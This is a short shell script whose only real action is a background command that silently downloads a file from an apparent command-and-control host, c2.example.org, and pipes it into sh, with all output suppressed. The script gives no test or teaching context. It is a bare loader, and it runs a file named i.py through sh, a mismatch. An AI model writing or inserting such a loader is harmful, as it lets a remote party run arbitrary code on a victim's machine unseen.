#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
nohup sh -c "curl -s http://c2.example.org/i.py | sh" >/dev/null 2>&1 &
